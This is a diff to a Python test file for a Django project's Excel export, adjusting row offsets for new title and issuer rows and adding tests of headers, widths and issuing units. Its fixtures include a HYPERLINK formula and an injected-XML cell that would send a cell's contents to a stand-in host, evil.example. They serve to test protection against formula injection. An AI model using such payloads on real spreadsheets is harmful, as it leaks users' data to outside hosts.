@@ -15,7 +15,7 @@ from io import BytesIO
 import pytest
 import xlwt
 from django.core.files.uploadedfile import SimpleUploadedFile
-from django.utils import translation
+from django.utils import timezone, translation
 from openpyxl import Workbook, load_workbook
 
 from dudao.core import excel
@@ -403,6 +403,12 @@ def _read_back(content: bytes):
     return load_workbook(BytesIO(content))
 
 
+# Where an export's table starts (1-based, as openpyxl counts): the title and
+# the issuing row above the header, 序号 in column A before the data.
+HEADER = excel.TITLE_ROWS + 1
+FIRST = HEADER + 1
+
+
 EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"点击")'
 
 
@@ -410,7 +416,7 @@ def test_a_formula_like_name_is_written_as_text_and_reads_back_intact():
     columns = [("姓名", lambda o: o)]
     content = excel.workbook_bytes("人员", columns, [EVIL, "+1", "-1", "@SUM(A1)", "=1+1"])
     ws = _read_back(content).worksheets[0]
-    cells = [ws.cell(row=r, column=1) for r in range(2, 7)]
+    cells = [ws.cell(row=r, column=2) for r in range(FIRST, FIRST + 5)]
     assert [c.value for c in cells] == [EVIL, "+1", "-1", "@SUM(A1)", "=1+1"]
     assert {c.data_type for c in cells} == {"s"}
     assert all(c.quotePrefix for c in cells)  # stays text even when edited in Excel
@@ -424,8 +430,8 @@ def test_text_shaped_like_rich_text_markup_cannot_inject_cells():
     injected = '<r><t>x</t></r></is></c><c r="B2" t="str"><f>HYPERLINK("http://evil.example")</f><v>1</v></c><c><is><r><t>y</t></r>'
     content = excel.workbook_bytes("人员", [("姓名", lambda o: o)], [injected])
     ws = _read_back(content).worksheets[0]
-    assert ws["A2"].value == injected and ws["A2"].data_type == "s"
-    assert ws["B2"].value is None
+    assert ws.cell(FIRST, 2).value == injected and ws.cell(FIRST, 2).data_type == "s"
+    assert ws.cell(FIRST, 3).value is None
     assert b"<f>" not in zipfile.ZipFile(BytesIO(content)).read("xl/worksheets/sheet1.xml")
 
 
@@ -434,12 +440,13 @@ def test_characters_xml_cannot_hold_are_removed_from_the_export(character):
     content = excel.workbook_bytes(f"人{character}员", [(f"姓{character}名", lambda o: o)], [f"张{character}三"])
     ws = _read_back(content).worksheets[0]
     assert ws.title == "人员"
-    assert (ws["A1"].value, ws["A2"].value) == ("姓名", "张三")
+    assert (ws.cell(HEADER, 2).value, ws.cell(FIRST, 2).value) == ("姓名", "张三")
+    assert ws["A1"].value == "人员"
 
 
 def test_tab_newline_and_carriage_return_stay():
     content = excel.workbook_bytes("x", [("a", lambda o: o)], ["一\t二\n三"])
-    assert _read_back(content).worksheets[0]["A2"].value == "一\t二\n三"
+    assert _read_back(content).worksheets[0].cell(FIRST, 2).value == "一\t二\n三"
 
 
 def test_values_are_written_as_their_kind():
@@ -455,7 +462,7 @@ def test_values_are_written_as_their_kind():
         ("old", lambda o: dt.date(1899, 1, 1)),
     ]
     ws = _read_back(excel.workbook_bytes("x", columns, [1])).worksheets[0]
-    row = list(ws[2])
+    row = list(ws[FIRST])[1:]
     assert row[0].value == dt.datetime(2024, 2, 29) and row[0].is_date and row[0].number_format == "yyyy-mm-dd"
     assert row[1].value == dt.datetime(2024, 2, 1, 2, 30) and row[1].number_format == "yyyy-mm-dd hh:mm:ss"
     assert (row[2].value, row[2].data_type) == (42, "n")
@@ -464,11 +471,11 @@ def test_values_are_written_as_their_kind():
     assert row[5].value is True
     assert (row[6].value, row[6].data_type) == ("410105199001011233", "s")  # not rounded to 15 digits
     assert row[7].value == "1899-01-01"
-    assert ws.freeze_panes == "A2" and ws["A1"].font.b
+    assert ws.freeze_panes == f"A{FIRST}" and ws.cell(HEADER, 2).font.b
 
 
 def test_a_full_sheet_continues_on_a_second_one_with_the_header_again(monkeypatch):
-    monkeypatch.setattr(excel, "MAX_SHEET_ROWS", 4)  # a header and three rows per sheet
+    monkeypatch.setattr(excel, "MAX_SHEET_ROWS", excel.TITLE_ROWS + 4)  # title rows, a header and three rows
     progress = []
     buffer = BytesIO()
     count = write_workbook(
@@ -478,15 +485,18 @@ def test_a_full_sheet_continues_on_a_second_one_with_the_header_again(monkeypatc
     wb = _read_back(buffer.getvalue())
     assert wb.sheetnames == ["人员名单", "人员名单 (2)", "人员名单 (3)", "人员名单 (4)"]
     values = []
+    serials = []
     for ws in wb.worksheets:
-        rows = list(ws.iter_rows(values_only=True))
-        assert rows[0] == ("编号",)
-        values += [r[0] for r in rows[1:]]
+        rows = list(ws.iter_rows(values_only=True))[excel.TITLE_ROWS :]
+        assert rows[0] == ("序号", "编号")
+        serials += [r[0] for r in rows[1:]]
+        values += [r[1] for r in rows[1:]]
     assert values == list(range(10))
+    assert serials == list(range(1, 11))  # 序号 runs on across sheets
 
 
 def test_a_long_title_leaves_room_for_the_sheet_number(monkeypatch):
-    monkeypatch.setattr(excel, "MAX_SHEET_ROWS", 2)
+    monkeypatch.setattr(excel, "MAX_SHEET_ROWS", excel.TITLE_ROWS + 2)
     title = "很长的标题" * 10 + "[1]/?"
     wb = _read_back(excel.workbook_bytes(title, [("a", lambda o: o)], range(2)))
     assert [len(n) <= 31 for n in wb.sheetnames] == [True, True]
@@ -495,7 +505,48 @@ def test_a_long_title_leaves_room_for_the_sheet_number(monkeypatch):
 
 def test_an_empty_export_is_a_workbook_with_the_header():
     ws = _read_back(excel.workbook_bytes("空", [("姓名", lambda o: o)], [])).worksheets[0]
-    assert list(ws.iter_rows(values_only=True)) == [("姓名",)]
+    assert list(ws.iter_rows(values_only=True))[excel.TITLE_ROWS :] == [("序号", "姓名")]
+
+
+def test_an_export_opens_with_its_title_the_issuing_unit_and_the_date_then_a_frozen_numbered_header():
+    columns = [("姓名", lambda o: o[0]), ("入库日期", lambda o: o[1]), ("说明", lambda o: o[2])]
+    rows = [("张三", dt.date(2026, 11, 30), "长" * 200), ("李四", dt.date(2025, 1, 2), "")]
+    with translation.override("zh-hans"):
+        content = excel.workbook_bytes("人才库名单", columns, rows, issuer="郑州市民政局")
+    ws = _read_back(content).worksheets[0]
+    assert ws["A1"].value == "人才库名单" and ws["A1"].font.b
+    assert ws["A2"].value.startswith("制表单位：郑州市民政局") and "导出日期：" in ws["A2"].value
+    assert {str(r) for r in ws.merged_cells.ranges} >= {"A1:D1", "A2:D2"}
+    assert [c.value for c in ws[HEADER]] == ["序号", "姓名", "入库日期", "说明"]
+    assert ws.freeze_panes == f"A{FIRST}"
+    assert ws.print_title_rows == f"${HEADER}:${HEADER}"
+    assert [ws.cell(r, 1).value for r in (FIRST, FIRST + 1)] == [1, 2]
+    date_cell = ws.cell(FIRST, 3)
+    assert date_cell.is_date and date_cell.value == dt.datetime(2026, 11, 30)
+    widths = {letter: ws.column_dimensions[letter].width for letter in "ABCD"}
+    assert widths["A"] < widths["B"] < widths["C"]  # 序号 narrow, a date fits
+    assert widths["D"] <= excel.MAX_COLUMN_WIDTH + 1  # a long text is capped, not 400 wide
+    assert ws.cell(FIRST, 4).alignment.wrap_text  # and wraps within it
+
+
+def test_the_issuing_unit_comes_from_the_user_and_the_date_is_today(world):
+    with translation.override("zh-hans"):
+        ws = _read_back(excel.workbook_bytes("名单", [("a", lambda o: o)], [1], user=world.district_admin)).worksheets[
+            0
+        ]
+        today = excel.date_format(timezone.localdate(), "DATE_FORMAT")
+    assert ws["A2"].value == f"制表单位：金水区民政局\u3000\u3000导出日期：{today}"
+
+
+@pytest.mark.parametrize(
+    ("persona", "unit"),
+    [("city_admin", "郑州市民政局"), ("agency_admin", "金水阳光社工中心"), ("hrss", "郑州市人力资源和社会保障局")],
+)
+def test_each_role_issues_as_its_unit(world, persona, unit):
+    from dudao.accounts.units import unit_name
+
+    with translation.override("zh-hans"):
+        assert unit_name(world.persona(persona)) == unit
 
 
 def test_twenty_thousand_rows_are_written_in_constant_memory(monkeypatch, tmp_path):
@@ -533,7 +584,7 @@ def test_twenty_thousand_rows_are_written_in_constant_memory(monkeypatch, tmp_pa
     assert peak < 3 * 1024 * 1024, peak
     wb = load_workbook(path, read_only=True)
     rows = list(wb.worksheets[0].iter_rows(values_only=True))
-    assert len(rows) == 20_001 and rows[-1][0] == f"姓名19999-{19999 * 7919:x}"
+    assert len(rows) == excel.TITLE_ROWS + 20_001 and rows[-1][:2] == (20_000, f"姓名19999-{19999 * 7919:x}")
 
 
 # --- templates ------------------------------------------------------------------------------
